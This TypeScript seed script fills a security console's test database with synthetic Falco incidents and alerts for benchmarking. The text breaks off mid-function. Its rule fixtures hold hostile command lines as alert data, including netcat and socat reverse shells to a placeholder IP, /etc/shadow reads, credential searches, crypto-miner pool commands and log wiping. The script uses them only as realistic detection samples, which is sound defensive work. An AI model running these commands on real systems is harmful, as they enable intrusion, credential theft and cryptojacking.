// npm run seed:large — a large, realistic data set to measure the console against: 10,000
// incidents and 1,000,000 alerts over the last 90 days (with their timeline groups, entities,
// entity links, lifecycle history and a few notes), including one large incident of 150,000
// alerts for the workspace.
//
// Into DATABASE_URL, or — when it is unset — into the embedded database that `npm start` uses
// (`$CORDON_DATA_DIR/pg`; stop `npm start` first). Migrations are applied first. Everything is
// written in one transaction with COPY, so a run either seeds all of it or nothing; a second run
// finds its marker (the `seed.large` setting) and does nothing. It refuses a database that already
// holds more than the demo's few incidents: it is a tool for test and benchmark databases.
//
// What the rows look like is what the ingest path would have written for the same alerts:
// Falcosidekick payloads (syscall rules and the k8saudit plugin) kept as `raw`, their
// output_fields as `fields`, `dedupKey` = lib/ingest/normalized.ts's dedupKey, one timeline
// entry per (incident, dedupKey) group with its count, correlation keys and titles as in
// lib/ingest/writer/correlate.ts, and `incident.alertCount` equal to the incident's alerts.
// The data is generated from a fixed PRNG seed: every run builds the same data set, relative to
// the time it runs.
import { randomBytes } from 'node:crypto';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { pathToFileURL } from 'node:url';
import pg from 'pg';
import { from as copyFrom } from 'pg-copy-streams';
import { techniquesFromTags as techniquesOf } from '../lib/mitre';
import { startEmbeddedDb, type EmbeddedDb } from './lib/embedded-db';
import { projectRoot, runPrisma } from './lib/prisma-cli';

export interface LargeSeedOptions {
  incidents?: number;
  alerts?: number;
  /** Alerts of the one large incident (part of `alerts`). */
  bigIncidentAlerts?: number;
  /** Progress lines (default: none). */
  log?: (line: string) => void;
}

export interface LargeSeedResult {
  seeded: boolean;
  incidents: number;
  alerts: number;
  timelineEntries: number;
  entities: number;
  bigIncidentId: number;
  seconds: number;
}

const MARKER = 'seed.large';
const SEED = 20_261_123;
const DAY = 86_400_000;
const CORRELATION_WINDOW_MINUTES = 30; // lib/ingest/settings.ts default, quoted in timeline entries

// ───────────────────────────── deterministic randomness ─────────────────────────────

let state = SEED;
/** mulberry32: small, fast, good enough for test data. */
function rand(): number {
  state = (state + 0x6d2b79f5) >>> 0;
  let t = state;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
}
const int = (n: number): number => Math.floor(rand() * n);
const pick = <T>(items: readonly T[]): T => items[int(items.length)]!;
const chance = (p: number): boolean => rand() < p;
function hex(n: number): string {
  let out = '';
  while (out.length < n) out += (int(0x1_0000_0000) >>> 0).toString(16).padStart(8, '0');
  return out.slice(0, n);
}
function uuid(): string {
  const h = hex(32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[int(4)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
}
/** Kubernetes' pod-name alphabet (no vowels, no confusable digits). */
function k8sSuffix(n: number): string {
  const alphabet = 'bcdfghjklmnpqrstvwxz2456789';
  let out = '';
  for (let i = 0; i < n; i += 1) out += alphabet[int(alphabet.length)];
  return out;
}
/** Index drawn with weights 1/(rank+1)^s: a few popular items, a long tail. */
function zipfPicker<T>(items: readonly T[], s: number): () => T {
  const cumulative: number[] = [];
  let total = 0;
  for (let i = 0; i < items.length; i += 1) cumulative.push((total += 1 / (i + 1) ** s));
  return () => {
    const x = rand() * total;
    let lo = 0;
    let hi = cumulative.length - 1;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if (cumulative[mid]! < x) lo = mid + 1;
      else hi = mid;
    }
    return items[lo]!;
  };
}

// ───────────────────────────── the world: clusters, namespaces, workloads ─────────────────────────────

type Priority = 'Critical' | 'Error' | 'Warning' | 'Notice' | 'Informational';
type Severity = 'critical' | 'high' | 'medium' | 'low' | 'info';
const SEVERITY: Record<Priority, Severity> = { Critical: 'critical', Error: 'high', Warning: 'medium', Notice: 'low', Informational: 'info' };
const SEVERITY_RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

interface RuleSpec {
  rule: string;
  priority: Priority;
  /** Falco's tags for the rule (fixtures/falco-rules.csv, falco-k8saudit-rules.csv). */
  tags: string[];
  /** The sentence Falco's output starts with; it becomes the alert title. */
  sentence: string;
  /** What varies between otherwise identical alerts: proc.cmdline, or ka.uri for audit rules. */
  details: string[];
  /** Extra output_fields (file, network). */
  extra?: Record<string, string | number>;
}

const CONTAINER_RULES: RuleSpec[] = [
  { rule: 'Terminal shell in container', priority: 'Notice', tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'], sentence: 'A shell was spawned in a container with an attached terminal', details: ['sh -c clear; (bash || ash || sh)', 'bash', 'sh -i', '/bin/bash -l'] },
  { rule: 'Read sensitive file untrusted', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_credential_access', 'T1555'], sentence: 'Sensitive file opened for reading by non-trusted program', details: ['cat /etc/shadow', 'python3 /tmp/harvest.py', 'find / -name shadow'], extra: { 'fd.name': '/etc/shadow', 'evt.type': 'openat' } },
  { rule: 'Drop and execute new binary in container', priority: 'Critical', tags: ['maturity_stable', 'container', 'process', 'mitre_persistence', 'TA0003', 'PCI_DSS_11.5.1'], sentence: 'Executing binary not part of base image', details: ['/tmp/kworkerd', '/dev/shm/.x/xmrig -c config.json', '/var/tmp/.cache/agent --daemon'] },
  { rule: 'Launch Suspicious Network Tool in Container', priority: 'Notice', tags: ['maturity_incubating', 'container', 'network', 'process', 'mitre_execution', 'T1059'], sentence: 'Network tool launched in container', details: ['nc -lvp 4444', 'nmap -sS 10.0.0.0/24', 'socat TCP:203.0.113.7:443 EXEC:sh'] },
  { rule: 'Contact K8S API Server From Container', priority: 'Notice', tags: ['maturity_stable', 'container', 'network', 'k8s', 'mitre_discovery', 'T1565'], sentence: 'Unexpected connection to K8s API Server from container', details: ['kubectl get secrets -A', 'curl -sk https://10.96.0.1/api/v1/namespaces', 'handler'], extra: { 'fd.sip': '10.96.0.1', 'fd.sport': 443, 'fd.name': '10.244.1.17:43812->10.96.0.1:443' } },
  { rule: 'Detect outbound connections to common miner pool ports', priority: 'Critical', tags: ['maturity_sandbox', 'host', 'container', 'network', 'mitre_impact', 'T1496'], sentence: 'Outbound connection to IP/Port flagged by https://cryptoioc.ch', details: ['xmrig --url pool.minexmr.com:4444 --donate-level 1', 'xmrig -o stratum+tcp://pool.minexmr.com:4444', './kdevtmpfsi'], extra: { 'fd.sip': '198.51.100.23', 'fd.sport': 4444, 'fd.sip.name': 'pool.minexmr.com', 'fd.name': '10.244.1.17:51122->198.51.100.23:4444' } },
  { rule: 'Netcat Remote Code Execution in Container', priority: 'Warning', tags: ['maturity_stable', 'container', 'network', 'process', 'mitre_execution', 'T1059'], sentence: 'Netcat runs inside container that allows remote code execution', details: ['nc -e /bin/sh 203.0.113.7 4444', 'ncat --exec sh 203.0.113.9 9001'] },
  { rule: 'Search Private Keys or Passwords', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'process', 'filesystem', 'mitre_credential_access', 'T1552.001'], sentence: 'Grep private keys or passwords activities found', details: ['grep -r "BEGIN RSA PRIVATE" /', 'find / -name id_rsa'] },
  { rule: 'Launch Package Management Process in Container', priority: 'Error', tags: ['maturity_incubating', 'container', 'process', 'software_mgmt', 'mitre_persistence', 'T1505'], sentence: 'Package management process launched in container', details: ['apt-get install -y curl', 'apk add --no-cache nmap', 'pip install requests'] },
  { rule: 'Redirect STDOUT/STDIN to Network Connection in Container', priority: 'Notice', tags: ['maturity_stable', 'container', 'network', 'process', 'mitre_execution', 'T1059'], sentence: 'Redirect stdout/stdin to network connection', details: ['bash -i', 'sh'], extra: { 'fd.sip': '203.0.113.7', 'fd.sport': 4444 } },
  { rule: 'Fileless execution via memfd_create', priority: 'Critical', tags: ['maturity_stable', 'host', 'container', 'process', 'mitre_defense_evasion', 'T1620'], sentence: 'Fileless execution via memfd_create', details: ['memfd:payload (deleted)', '3'] },
  { rule: 'Execution from /dev/shm', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'mitre_execution', 'T1059.004'], sentence: 'File execution detected from /dev/shm', details: ['/dev/shm/run.sh', '/dev/shm/.x/loader'] },
  { rule: 'Packet socket created in container', priority: 'Notice', tags: ['maturity_stable', 'container', 'network', 'mitre_credential_access', 'T1557.002'], sentence: 'Packet socket was created in a container', details: ['tcpdump -i eth0 -w /tmp/cap', 'arpspoof -i eth0 10.244.1.1'] },
  { rule: 'Find AWS Credentials', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'process', 'aws', 'mitre_credential_access', 'T1552'], sentence: 'Detected AWS credentials search activity', details: ['grep -r aws_secret_access_key /', 'find / -name credentials -path "*.aws*"'] },
  { rule: 'Clear Log Activities', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_defense_evasion', 'T1070', 'NIST_800-53_AU-10'], sentence: 'Log files were tampered', details: ['rm -f /var/log/nginx/access.log', 'truncate -s0 /var/log/app.log'] },
];

const HOST_RULES: RuleSpec[] = [
  { rule: 'Write below etc', priority: 'Error', tags: ['maturity_sandbox', 'host', 'container', 'filesystem', 'mitre_persistence', 'T1098'], sentence: 'File below /etc opened for writing', details: ['vi /etc/crontab', 'tee -a /etc/ld.so.preload', 'sed -i s/^PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config'], extra: { 'fd.name': '/etc/crontab', 'evt.type': 'openat' } },
  { rule: 'Modify binary dirs', priority: 'Error', tags: ['maturity_sandbox', 'host', 'container', 'filesystem', 'mitre_defense_evasion', 'T1222.002'], sentence: 'File below known binary directory renamed/removed', details: ['mv /usr/bin/ps /usr/bin/ps.bak', 'rm /usr/bin/top'] },
  { rule: 'PTRACE attached to process', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'process', 'mitre_privilege_escalation', 'T1055.008'], sentence: 'Detected ptrace PTRACE_ATTACH attempt', details: ['gdb -p 1', 'strace -p 812'] },
  { rule: 'Clear Log Activities', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_defense_evasion', 'T1070', 'NIST_800-53_AU-10'], sentence: 'Log files were tampered', details: ['truncate -s0 /var/log/syslog', 'rm -f /var/log/auth.log'] },
];

// Falco's k8saudit plugin (source "k8s_audit" inside the Falco payload): alerts about identities.
const AUDIT_RULES: RuleSpec[] = [
  { rule: 'K8s Secret Get Successfully', priority: 'Error', tags: ['k8s'], sentence: 'K8s Secret Get Successfully', details: ['/api/v1/namespaces/{ns}/secrets/db-credentials', '/api/v1/namespaces/{ns}/secrets/stripe-api-key', '/api/v1/namespaces/{ns}/secrets'] },
  { rule: 'Attach to cluster-admin Role', priority: 'Warning', tags: ['k8s'], sentence: 'Cluster Role Binding to cluster-admin role', details: ['/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'] },
  { rule: 'ClusterRole With Wildcard Created', priority: 'Warning', tags: ['k8s'], sentence: 'Created Role/ClusterRole with wildcard', details: ['/apis/rbac.authorization.k8s.io/v1/clusterroles'] },
  { rule: 'Service Account Created in Kube Namespace', priority: 'Warning', tags: ['k8s'], sentence: 'Service account created in kube namespace', details: ['/api/v1/namespaces/kube-system/serviceaccounts'] },
  { rule: 'Disallowed K8s User', priority: 'Warning', tags: ['k8s'], sentence: 'K8s Operation performed by user not in allowed list of users', details: ['/api/v1/namespaces/{ns}/configmaps', '/apis/apps/v1/namespaces/{ns}/deployments'] },
];

const TEAMS = [
  'payments', 'checkout', 'catalog', 'search', 'ml-serving', 'data', 'auth', 'billing', 'ledger', 'media', 'ads', 'growth', 'risk',
  'fraud', 'identity', 'notify', 'orders', 'shipping', 'inventory', 'pricing', 'reviews', 'recs', 'chat', 'support', 'analytics',
  'etl', 'kafka', 'redis', 'ingress', 'monitoring', 'logging', 'ci', 'argocd', 'vault', 'istio-system', 'kube-system', 'cert-manager',
  'external-dns', 'gatekeeper', 'falco',
];
const ENVS = ['', '-staging', '-dev', '-canary', '-eu', '-us', '-apac', '-batch'];
const ROLES = ['api', 'web', 'worker', 'scheduler', 'gateway', 'consumer', 'exporter', 'frontend', 'backend', 'cron-runner', 'sync', 'proxy'];
const SERVICE_ACCOUNTS = ['default', 'deployer', 'ci-bot', 'argocd-application-controller', 'external-secrets', 'backup-operator'];
const HUMANS = ['kubernetes-admin', 'alice@corp.example', 'bob@corp.example', 'ci-deployer', 'oncall-breakglass', 'contractor-7@partner.example'];

interface Workload {
  name: string;
  image: string;
  pods: { name: string; node: string }[];
}
interface Namespace {
  name: string;
  workloads: Workload[];
}
interface Cluster {
  id: string;
  name: string;
  displayName: string;
  namespaces: Namespace[];
  nodes: string[];
  pickNamespace: () => Namespace;
  principals: string[];
}

function buildWorld(): Cluster[] {
  const specs = [
    { name: 'prod-eu', displayName: 'Production EU (eu-west-1)', share: 130, nodes: 40, region: 'eu-west-1' },
    { name: 'prod-us', displayName: 'Production US (us-east-1)', share: 110, nodes: 32, region: 'us-east-1' },
    { name: 'staging', displayName: 'Staging', share: 60, nodes: 12, region: 'eu-central-1' },
  ];
  const names = TEAMS.flatMap((team) => ENVS.map((env) => `${team}${env}`));
  let next = 0;
  return specs.map((spec) => {
    const nodes = Array.from({ length: spec.nodes }, () => `ip-10-${int(4)}-${int(256)}-${int(256)}.${spec.region}.compute.internal`);
    const namespaces: Namespace[] = [];
    for (let i = 0; i < spec.share; i += 1) {
      const name = names[(next++ * 7) % names.length]!;
      const base = name.replace(/-(staging|dev|canary|eu|us|apac|batch)$/, '');
      const roles = [...ROLES].sort(() => rand() - 0.5).slice(0, 2 + int(5));
      namespaces.push({
        name,
        workloads: roles.map((role) => {
          const workload = `${base}-${role}`;
          const hashes = [k8sSuffix(10), k8sSuffix(9)];
          return {
            name: workload,
            image: `registry.corp.example/${base}/${workload}:v${1 + int(4)}.${int(20)}.${int(10)}`,
            pods: Array.from({ length: 2 + int(5) }, () => ({ name: `${workload}-${pick(hashes)}-${k8sSuffix(5)}`, node: pick(nodes) })),
          };
        }),
      });
    }
    const principals = [
      ...namespaces.slice(0, 40).map((ns) => `system:serviceaccount:${ns.name}:${pick(SERVICE_ACCOUNTS)}`),
      ...HUMANS,
    ];
    return {
      id: `c${hex(24)}`,
      name: spec.name,
      displayName: spec.displayName,
      namespaces,
      nodes,
      pickNamespace: zipfPicker(namespaces, 0.9),
      principals,
    };
  });
}

// ───────────────────────────── incident plans ─────────────────────────────

type Scope = 'workload' | 'principal' | 'node';
type Status = 'new' | 'acknowledged' | 'investigating' | 'contained' | 'resolved' | 'closed';

interface Group {
  spec: RuleSpec;
  detail: string;
  dedupKey: string;
  weight: number;
  // filled while the alerts are written
  count: number;
  first: number;
  last: number;
}

interface Plan {
  id: number;
  cluster: Cluster;
  scope: Scope;
  namespace: string | null;
  workload: Workload | null;
  node: string | null;
  principal: string | null;
  pods: { name: string; node: string }[];
  rules: RuleSpec[];
  groups: Group[];
  alerts: number;
  first: number;
  last: number;
  correlationKey: string;
  subject: string;
  title: string;
  big: boolean;
}

function severityOf(rules: readonly RuleSpec[]): Severity {
  return rules.map((r) => SEVERITY[r.priority]).reduce((a, b) => (SEVERITY_RANK[a] >= SEVERITY_RANK[b] ? a : b));
}

/** Alert counts: one large incident, the rest heavy-tailed (most small, some storms), ≥ 1 each. */
function alertCounts(incidents: number, alerts: number, big: number): number[] {
  const rest = alerts - big;
  // No incident outgrows a sixth of the large one (unless the numbers leave no other choice).
  const cap = Math.max(Math.floor(big / 6), 2 * Math.ceil(rest / (incidents - 1)));
  const weights = Array.from({ length: incidents - 1 }, () => Math.min(1 / Math.max(rand(), 1e-6) ** 1.15, 5_000));
  const total = weights.reduce((a, b) => a + b, 0);
  const counts = weights.map((w) => Math.min(cap, Math.max(1, Math.floor((w / total) * rest))));
  let missing = rest - counts.reduce((a, b) => a + b, 0);
  while (missing !== 0) {
    const i = int(counts.length);
    if (missing > 0 && counts[i]! < cap) {
      const add = Math.min(missing, cap - counts[i]!, 1 + int(200));
      counts[i]! += add;
      missing -= add;
    } else if (missing < 0 && counts[i]! > 1) {
      counts[i]! -= 1;
      missing += 1;
    }
  }
  return counts;
}

function planIncidents(world: Cluster[], options: Required<Pick<LargeSeedOptions, 'incidents' | 'alerts' | 'bigIncidentAlerts'>>, now: number): Omit<Plan, 'id'>[] {
  const counts = alertCounts(options.incidents, options.alerts, options.bigIncidentAlerts);
  const pickCluster = zipfPicker(world, 0.7);
  const pickContainerRule = zipfPicker(CONTAINER_RULES, 0.6);
  const plans: Omit<Plan, 'id'>[] = [];

  const make = (alerts: number, big: boolean): Omit<Plan, 'id'> => {
    const cluster = big ? world[0]! : pickCluster();
    const roll = rand();
    const scope: Scope = big || roll < 0.85 ? 'workload' : roll < 0.95 ? 'principal' : 'node';
    // Ages: the last 90 days, more of them recent (as a live installation looks).
    const age = big ? 40 * 3_600_000 : 90 * DAY * rand() ** 1.6;
    // Storms last longer than single alerts: ~20 s per alert, up to 3 days.
    const span = alerts <= 1 ? 0 : big ? age - 5 * 60_000 : Math.min(3 * DAY, alerts * (5_000 + rand() * 40_000), age * (0.2 + 0.75 * rand()));
    const first = Math.floor(now - age);
    const last = Math.floor(first + span);

    let namespace: string | null = null;
    let workload: Workload | null = null;
    let node: string | null = null;
    let principal: string | null = null;
    let pods: { name: string; node: string }[] = [];
    let rules: RuleSpec[];
    if (scope === 'workload') {
      const ns = big ? (cluster.namespaces.find((n) => n.name === 'payments') ?? cluster.namespaces[0]!) : cluster.pickNamespace();
      namespace = ns.name;
      workload = big ? ns.workloads[0]! : pick(ns.workloads);
      if (big) {
        // A scaled-out Deployment turned into a crypto miner: 24 pods over 6 nodes.
        const hash = k8sSuffix(10);
        const nodes = cluster.nodes.slice(0, 6);
        pods = Array.from({ length: 24 }, (_, i) => ({ name: `${workload!.name}-${hash}-${k8sSuffix(5)}`, node: nodes[i % 6]! }));
        workload.pods = pods;
        rules = ['Detect outbound connections to common miner pool ports', 'Drop and execute new binary in container', 'Terminal shell in container', 'Launch Suspicious Network Tool in Container', 'Read sensitive file untrusted', 'Contact K8S API Server From Container'].map(
          (name) => CONTAINER_RULES.find((r) => r.rule === name)!,
        );
      } else {
        pods = [...workload.pods].sort(() => rand() - 0.5).slice(0, 1 + Math.floor(rand() ** 2 * 3));
        rules = [pickContainerRule()];
        for (const p of [0.35, 0.12, 0.04]) if (chance(p)) rules.push(pickContainerRule());
      }
      node = pods[0]!.node;
    } else if (scope === 'principal') {
      principal = pick(cluster.principals);
      const sa = /^system:serviceaccount:([^:]+):/.exec(principal);
      namespace = sa ? sa[1]! : cluster.pickNamespace().name;
      rules = [pick(AUDIT_RULES)];
      if (chance(0.3)) rules.push(pick(AUDIT_RULES));
    } else {
      node = pick(cluster.nodes);
      rules = [pick(HOST_RULES)];
      if (chance(0.3)) rules.push(pick(HOST_RULES));
    }
    rules = [...new Map(rules.map((r) => [r.rule, r])).values()];

    // Timeline groups: rule × detail; the entity part of the dedup key is the correlation entity.
    const entity = scope === 'workload' ? `${namespace}/Deployment/${workload!.name}` : scope === 'principal' ? principal! : node!;
    const groups: Group[] = [];
    for (const spec of rules) {
      const details = big ? spec.details : [...spec.details].sort(() => rand() - 0.5).slice(0, 1 + int(Math.min(3, spec.details.length)));
      for (const raw of details) {
        const detail = raw.replace('{ns}', namespace ?? 'default');
        const key = `falco|${spec.rule}|${entity}|${detail}`;
        groups.push({ spec, detail, dedupKey: key.length <= 300 ? key : key.slice(0, 300), weight: 1 / (groups.length + 1) ** 1.2, count: 0, first: Infinity, last: -Infinity });
      }
    }
    const correlationKey = `${cluster.id}|${scope}|${entity}`;
    const subject = scope === 'workload' ? `workload ${entity}` : scope === 'principal' ? `identity ${principal}` : `node ${node}`;
    const where = scope === 'workload' ? `${namespace}/${workload!.name}` : scope === 'principal' ? principal! : `node ${node}`;
    return {
      cluster,
      scope,
      namespace,
      workload,
      node,
      principal,
      pods,
      rules,
      groups,
      alerts,
      first,
      last,
      correlationKey,
      subject,
      title: `${rules[0]!.rule} — ${where}`.slice(0, 300),
      big,
    };
  };

  plans.push(make(options.bigIncidentAlerts, true));
  for (const count of counts) plans.push(make(count, false));
  // Ids grow with time, as incidents opened by the ingest path do.
  plans.sort((a, b) => a.first - b.first);
  return plans;
}

// ───────────────────────────── COPY ─────────────────────────────

type Value = string | number | boolean | null;

/** COPY text format: backslash escapes for the four special characters; \N is NULL. */
function copyValue(value: Value): string {
  if (value === null) return '\\N';
  const text = typeof value === 'string' ? value : String(value);
  return /[\\\n\r\t]/.test(text) ? text.replace(/\\/g, '\\\\').replace(/\n/g, '\\n').replace(/\r/g, '\\r').replace(/\t/g, '\\t') : text;
}

function textArray(values: readonly string[]): string {
  return `{${values.map((v) => `"${v.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`).join(',')}}`;
}

async function copyRows(client: pg.Client, table: string, columns: readonly string[], rows: Iterable<Value[]>): Promise<number> {
  let written = 0;
  function* chunks(): Generator<string> {
    let buffer = '';
    for (const row of rows) {
      buffer += `${row.map(copyValue).join('\t')}\n`;
      written += 1;
      if (buffer.length > 256 * 1024) {
        yield buffer;
        buffer = '';
      }
    }
    if (buffer) yield buffer;
  }
  const stream = client.query(copyFrom(`COPY ${table} (${columns.map((c) => `"${c}"`).join(', ')}) FROM STDIN`));
  await pipeline(Readable.from(chunks()), stream);
  return written;
}

const iso = (ms: number): string => new Date(ms).toISOString();

// ───────────────────────────── alerts ─────────────────────────────

const ALERT_COLUMNS = [
  'source', 'sourceEventId', 'dedupKey', 'rule', 'title', 'severity', 'occurredAt', 'receivedAt', 'clusterId', 'namespace',
  'workloadKind', 'workload', 'pod', 'container', 'node', 'image', 'principal', 'process', 'srcIp', 'dstIp', 'dstPort', 'dstName',
  'techniques', 'tags', 'fields', 'raw', 'incidentId',
] as const;

/** Falco's nanosecond time: the ISO text and evt.time (an integer beyond JavaScript's safe range, written as digits). */
function falcoTime(ms: number): { text: string; evtTime: string; clock: string } {
  const nanos = String(int(1_000_000)).padStart(6, '0');
  const text = `${iso(ms).slice(0, 23)}${nanos}Z`;
  return { text, evtTime: `${ms}${nanos}`, clock: text.slice(11, 29) };
}

function* alertRows(plans: readonly Plan[], now: number): Generator<Value[]> {
  const j = JSON.stringify;
  for (const plan of plans) {
    const cumulative: number[] = [];
    let total = 0;
    for (const g of plan.groups) cumulative.push((total += g.weight));
    const span = plan.last - plan.first;
    for (let k = 0; k < plan.alerts; k += 1) {
      // The first alert is the one that opened the incident (its first rule); the rest spread
      // over the incident's span in time order.
      let group = plan.groups[0]!;
      if (k > 0) {
        const x = rand() * total;
        let i = 0;
        while (cumulative[i]! < x) i += 1;
        group = plan.groups[i]!;
      }
      const at = plan.alerts <= 1 ? plan.first : k === plan.alerts - 1 ? plan.last : plan.first + Math.floor(((k + rand() * 0.999) / (plan.alerts - 1)) * span);
      group.count += 1;
      if (at < group.first) group.first = at;
      if (at > group.last) group.last = at;

      const spec = group.spec;
      const time = falcoTime(at);
      const id = uuid();
      const severity = SEVERITY[spec.priority];
      const techniques = techniquesOf(spec.tags);
      const received = Math.min(now, at + 150 + int(1_500));
      let fields: string;
      let output: string;
      let hostname: string;
      let pod: string | null = null;
      let node: string | null = null;
      let container: string | null = null;
      let image: string | null = null;
      let process: string | null = null;
      if (plan.scope === 'principal') {
        const uri = group.detail;
        // /api/v1/namespaces/<ns>/<resource>[/<name>]: a collection is listed or created in, an object read.
        const parts = uri.split('/');
        const at = parts.indexOf('namespaces');
        const resource = (at >= 0 && parts.length > at + 2 ? parts[at + 2] : parts[parts.length - 1])!;
        const name = at >= 0 ? (parts[at + 3] ?? '') : '';
        const verb = name ? 'get' : resource === 'secrets' ? 'list' : 'create';
        fields =
          `{"evt.time":${time.evtTime},"ka.auth.decision":"allow","ka.response.code":${verb === 'create' ? 201 : 200},` +
          `${name ? `"ka.target.name":${j(name)},` : ''}"ka.target.namespace":${j(plan.namespace)},"ka.target.resource":${j(resource)},` +
          `"ka.uri":${j(uri)},"ka.user.groups":["system:authenticated"],"ka.user.name":${j(plan.principal)},` +
          `"ka.useragent":"kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46","ka.verb":${j(verb)}}`;
        output = `${time.clock}: ${spec.priority} ${spec.sentence} (user=${plan.principal} target=${name || '<NA>'}/${resource} verb=${verb} uri=${uri} resp=${verb === 'create' ? 201 : 200})`;
        hostname = 'falco-k8saudit-7f9c6d5b8-q2xkd';
        process = null;
      } else {
        const where = plan.pods.length > 0 ? plan.pods[int(plan.pods.length)]! : null;
        pod = where?.name ?? null;
        node = where?.node ?? plan.node;
        const repository = plan.workload ? plan.workload.image.split(':')[0]! : 'host';
        const tag = plan.workload ? plan.workload.image.split(':')[1]! : '';
        const containerId = hex(12);
        container = plan.workload ? plan.workload.name.slice(plan.workload.name.lastIndexOf('-') + 1) || containerId : 'host';
        image = plan.workload ? plan.workload.image : null;
        process = group.detail;
        const procName = group.detail.split(' ')[0]!.split('/').pop()!;
        let extra = '';
        for (const [key, value] of Object.entries(spec.extra ?? {})) extra += `${j(key)}:${j(value)},`;
        fields = plan.workload
          ? `{"container.id":${j(containerId)},"container.image.repository":${j(repository)},"container.image.tag":${j(tag)},` +
            `"container.name":${j(container)},"evt.time":${time.evtTime},"evt.type":"execve",${extra}"k8s.ns.name":${j(plan.namespace)},` +
            `"k8s.pod.name":${j(pod)},"proc.cmdline":${j(group.detail)},"proc.exepath":${j(`/usr/bin/${procName}`)},` +
            `"proc.name":${j(procName)},"proc.pname":"runc","proc.tty":0,"user.loginuid":-1,"user.name":"root"}`
          : `{"container.id":"host","evt.time":${time.evtTime},"evt.type":"execve",${extra}"proc.cmdline":${j(group.detail)},` +
            `"proc.exepath":${j(`/usr/bin/${procName}`)},"proc.name":${j(procName)},"proc.pname":"bash","user.loginuid":1000,"user.name":"ops"}`;
        output = plan.workload
          ? `${time.clock}: ${spec.priority} ${spec.sentence} (user=root user_loginuid=-1 process=${procName} parent=runc command=${group.detail} ` +
            `terminal=0 container_id=${containerId} container_image=${repository} container_image_tag=${tag} container_name=${container} ` +
            `k8s_ns=${plan.namespace} k8s_pod_name=${pod})`
          : `${time.clock}: ${spec.priority} ${spec.sentence} (user=ops user_loginuid=1000 process=${procName} parent=bash command=${group.detail} container_id=host)`;
        hostname = node!;
      }
      const raw =
        `{"uuid":${j(id)},"output":${j(output)},"priority":${j(spec.priority)},"rule":${j(spec.rule)},"time":${j(time.text)},` +
        `"output_fields":${fields},"source":${j(plan.scope === 'principal' ? 'k8s_audit' : 'syscall')},"tags":${j(spec.tags)},"hostname":${j(hostname)}}`;
      const extra = spec.extra ?? {};
      yield [
        'falco', id, group.dedupKey, spec.rule, spec.sentence, severity, iso(at), iso(received), plan.cluster.id, plan.namespace,
        plan.workload ? 'Deployment' : null, plan.workload?.name ?? null, pod, container, node, image, plan.principal, process,
        null, typeof extra['fd.sip'] === 'string' ? extra['fd.sip'] : null, typeof extra['fd.sport'] === 'number' ? extra['fd.sport'] : null,
        typeof extra['fd.sip.name'] === 'string' ? extra['fd.sip.name'] : null, textArray(techniques), textArray(spec.tags), fields, raw, plan.id,
      ];
    }
  }
}

// ───────────────────────────── incidents, lifecycle, timeline ─────────────────────────────

interface Person {
  id: string;
  email: string;
}

interface Lifecycle {
  status: Status;
  phase: string;
  assignee: Person | null;
  acknowledgedAt: number | null;
  containedAt: number | null;
  eradicatedAt: number | null;
  recoveredAt: number | null;
  resolvedAt: number | null;
  closedAt: number | null;
  resolution: string | null;
  resolutionSummary: string | null;
  mergedIntoId: number | null;
  detectedAt: number;
  updatedAt: number;
  history: { at: number; kind: string; summary: string; data: unknown; actor: Person }[];
}

const STATUS_BY_AGE: [number, [Status, number][]][] = [
  [DAY, [['new', 45], ['acknowledged', 15], ['investigating', 25], ['contained', 10], ['resolved', 3], ['closed', 2]]],
  [7 * DAY, [['new', 10], ['acknowledged', 10], ['investigating', 20], ['contained', 15], ['resolved', 15], ['closed', 30]]],
  [Infinity, [['new', 2], ['acknowledged', 2], ['investigating', 4], ['contained', 4], ['resolved', 13], ['closed', 75]]],
];

function lifecycleOf(plan: Plan, team: Person[], now: number, earlier: Plan[]): Lifecycle {
  const age = now - plan.first;
  const table = STATUS_BY_AGE.find(([limit]) => age < limit)![1];
  let x = rand() * 100;
  let status: Status = 'new';
  for (const [s, weight] of table) if ((x -= weight) < 0) {
    status = s;
    break;
  }
  if (plan.big) status = 'investigating';
  const detectedAt = plan.first + 800 + int(2_500);
  const life: Lifecycle = {
    status,
    phase: 'detection_analysis',
    assignee: null,
    acknowledgedAt: null,
    containedAt: null,
    eradicatedAt: null,
    recoveredAt: null,
    resolvedAt: null,
    closedAt: null,
    resolution: null,
    resolutionSummary: null,
    mergedIntoId: null,
    detectedAt,
    updatedAt: Math.max(plan.last, detectedAt),
    history: [],
  };
  const finish = (l: Lifecycle): Lifecycle => {
    l.updatedAt = Math.max(l.updatedAt, ...l.history.map((h) => h.at));
    return l;
  };
  const assigned = plan.big || (status === 'new' ? chance(0.15) : chance(0.92));
  const who = plan.big ? team.find((p) => p.email.startsWith('responder@')) ?? team[0]! : pick(team);
  // Each step happens a while after the previous one, never in the future.
  let clock = detectedAt;
  const step = (minutes: number): number => (clock = Math.min(now - 1_000, clock + (minutes * (0.3 + rand())) * 60_000));
  if (assigned) {
    life.assignee = who;
    life.history.push({ at: step(8), kind: 'assignment', summary: `Assigned to ${who.email}`, data: { assigneeId: who.id }, actor: who });
  }
  const move = (to: Status, phase: string, minutes: number, from: Status): number => {
    const at = step(minutes);
    life.history.push({ at, kind: 'status_change', summary: `Status ${from} → ${to}`, data: { from, to, phase }, actor: life.assignee ?? who });
    life.phase = phase;
    return at;
  };
  if (status === 'new') return finish(life);
